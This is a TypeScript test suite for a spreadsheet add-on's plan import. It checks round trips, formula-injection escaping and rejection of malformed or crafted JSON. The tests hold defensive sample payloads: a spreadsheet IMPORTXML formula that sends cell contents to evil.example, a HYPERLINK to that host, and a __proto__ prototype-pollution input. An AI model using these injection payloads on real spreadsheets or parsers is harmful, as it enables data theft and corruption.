import { describe, expect, it } from "vitest";
import type { ExportResult } from "../../src/domain/api/contract";
import type { PlanDocument } from "../../src/domain/plan/plan-document";
import { loadAddOn, sheetValues, spreadsheetOf, type LoadedAddOn } from "../support/bundle";
import { planWith } from "../support/plans";

const exported = (addOn: LoadedAddOn) => {
  const result = addOn.run<ExportResult>("exportPlan");
  const file = addOn.emulator.drive.list().find((f) => f.id === result.fileId)!;
  return { text: file.content.toString(), plan: JSON.parse(file.content.toString()) as PlanDocument };
};

/** Export bookkeeping that legitimately differs between two exports of the same plan. */
const comparable = (plan: PlanDocument) => {
  const { version, exportedAt, contentHash, changes, changeLog, ...rest } = plan;
  return { ...rest, profiles: rest.profiles.map((p) => ({ ...p, document: { ...p.document, docUrl: null } })) };
};

const allSheets = (addOn: LoadedAddOn) =>
  spreadsheetOf(addOn)
    .getSheets()
    .map((sheet) => [sheet.getName(), sheet.getDataRange().getValues()]);

describe("Import plan", () => {
  it("round trip: export, import into an empty spreadsheet, export again gives the same plan", () => {
    const source = planWith();
    const first = exported(source);
    const target = loadAddOn();
    const result = target.run<{ planId: string; restored: { sheet: string; rows: number }[] }>("importPlan", { json: first.text });
    expect(result.planId).toBe("plg-onboarding-7f3a");
    expect(result.restored).toContainEqual({ sheet: "2 Attributes", rows: 5 });
    const second = exported(target);
    expect(comparable(second.plan)).toEqual(comparable(first.plan));
    expect(second.plan.contentHash).toBe(first.plan.contentHash);
    expect(second.plan.version).toBe(first.plan.version + 1);
  });

  it("restores text that begins with =, +, - or @ as text, never as a formula", () => {
    const source = planWith((e) => {
      e.sheets["2 Attributes"][0]["Privacy notes"] = "- no export";
      e.sheets["3 Profiles"][0].Name = "+1 onboarding";
      e.sheets["5 Governance"][0]["Change checkpoint"] = "@privacy review";
    });
    const plan = exported(source).plan;
    const attributes = plan.attributes as Record<string, unknown>[];
    attributes[0].privacyNotes = '=HYPERLINK("https://evil.example","click")';
    attributes[1].privacyNotes = '=IMPORTXML("https://evil.example/steal?d="&A1,"//a")';
    const target = loadAddOn();
    target.run("importPlan", { json: JSON.stringify(plan) });
    const sheet = spreadsheetOf(target).getSheetByName("2 Attributes")!;
    expect(sheet.getDataRange().getFormulas().flat().filter(Boolean)).toEqual([]);
    const notes = sheetValues(target, "2 Attributes").map((row) => row[13]);
    expect(notes.slice(1, 3)).toEqual([attributes[0].privacyNotes, attributes[1].privacyNotes]);
    expect(sheetValues(target, "3 Profiles")[1][1]).toBe("+1 onboarding");
    expect(sheetValues(target, "5 Governance")[1][6]).toBe("@privacy review");
  });

  it("keeps what was typed in a cell that did not parse", () => {
    const source = planWith((e) => {
      e.sheets["2 Attributes"][2]["Coverage %"] = "most of them";
    });
    const target = loadAddOn();
    target.run("importPlan", { json: exported(source).text });
    expect(sheetValues(target, "2 Attributes")[3][8]).toBe("most of them");
  });

  const crafted: [string, (plan: Record<string, unknown>) => string][] = [
    ["invalid JSON", () => '{"schemaVersion": 1,'],
    ["a __proto__ key", (plan) => JSON.stringify(plan).replace('"attributes":[', '"attributes":[{"__proto__":{"polluted":true}},')],
    ["a wrong type", (plan) => JSON.stringify({ ...plan, attributes: "all of them" })],
    ["a 1 MB string", (plan) => JSON.stringify({ ...plan, initiative: "x".repeat(1_000_000) })],
    ["another schema version", (plan) => JSON.stringify({ ...plan, schemaVersion: 9 })],
    ["not a plan at all", () => "[1, 2, 3]"],
  ];

  it.each(crafted)("changes nothing and says why for a file with %s", (_, craft) => {
    const plan = exported(planWith()).plan as unknown as Record<string, unknown>;
    const target = planWith();
    target.run("exportPlan");
    const before = allSheets(target);
    let message = "";
    try {
      target.run("importPlan", { json: craft(plan) });
    } catch (error) {
      message = (error as Error).message;
    }
    expect(message).toMatch(/^Import did not finish; nothing changed: the plan file was refused\.\n• /);
    expect(allSheets(target)).toEqual(before);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it("imports a plan file from Drive by its ID", () => {
    const addOn = planWith();
    const result = addOn.run<ExportResult>("exportPlan");
    spreadsheetOf(addOn).getSheetByName("3 Profiles")!.getRange("B2").setValue("Renamed");
    addOn.run("importPlan", { fileId: result.fileId });
    expect(sheetValues(addOn, "3 Profiles")[1][1]).toBe("New free workspaces still onboarding");
    expect(String(sheetValues(addOn, "Change log").at(-1)![6])).toMatch(/^imported v1 draft/);
  });
});
